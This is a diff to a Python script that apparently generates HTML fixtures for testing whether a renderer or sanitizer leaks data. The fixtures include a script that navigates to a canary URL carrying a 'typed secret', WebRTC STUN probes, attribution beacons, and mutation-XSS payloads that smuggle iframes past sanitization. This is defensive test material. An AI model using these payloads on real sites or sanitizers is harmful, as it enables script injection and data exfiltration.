@@ -61,6 +61,8 @@ elif mode == "html":
 const pc = new RTCPeerConnection({{iceServers: [{{urls: "stun:127.0.0.1:{udp}"}}]}});
 pc.createDataChannel("x");
 pc.createOffer().then((o) => pc.setLocalDescription(o));
+</script>"""
+    navigate = f"""<script>
 setTimeout(() => {{ location.href = "{canary}/script-navigation?stdin=" + encodeURIComponent("typed secret"); }}, 500);
 </script>"""
     out("attack.html", f"""<!doctype html><html><head>
@@ -82,13 +84,16 @@ setTimeout(() => {{ location.href = "{canary}/script-navigation?stdin=" + encode
 <noscript><p id="noscript">shown without scripts</p></noscript>
 <img attributionsrc="{canary}/attribution" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">
 <p data-next="{canary}/attribute">text</p>
-{stun}
+{stun}{navigate}
 </body></html>""")
     # markup that parses differently once serialized (mutation XSS): an iframe could reappear
     out("mxss.html", f"""<p>mutations</p><svg><style><iframe src="{canary}/mxss-svg-style"></style></svg>
 <math><mtext><table><mglyph><style><iframe src="{canary}/mxss-mglyph"></style></mglyph></table></mtext></math>
 <noscript><p title="</noscript><iframe src='{canary}/mxss-noscript'>"></p></noscript>
 <form><math><mtext></form><form><mglyph><style></math><iframe src="{canary}/mxss-form">""")
+    # A file whose scripts the user runs: it reaches out by WebRTC, but does not navigate its
+    # frame away (Chromium lets it, the page's frame-src refuses it and the frame becomes an
+    # error page), or "#ran" would be there only for that half second.
     out("chart.html", f"""<!doctype html><html><body><h1>chart</h1><p id="ran">no</p>
 <script>document.getElementById("ran").textContent = "yes";</script>{stun}</body></html>""")
     print("wrote", sorted(os.listdir("/out")))
